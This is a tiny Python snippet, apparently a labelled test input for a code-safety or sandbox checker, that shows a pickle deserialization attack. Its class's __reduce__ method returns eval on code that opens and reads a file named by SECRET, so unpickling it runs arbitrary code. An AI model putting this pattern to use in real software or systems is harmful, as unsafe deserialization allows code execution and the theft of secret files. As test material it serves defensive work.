# tries: a pickle that calls
# class: imports
# bare: python
import pickle
class E:
    def __reduce__(self): return eval, ("open(%r).read()" % SECRET,)
print(pickle.loads(pickle.dumps(E())))
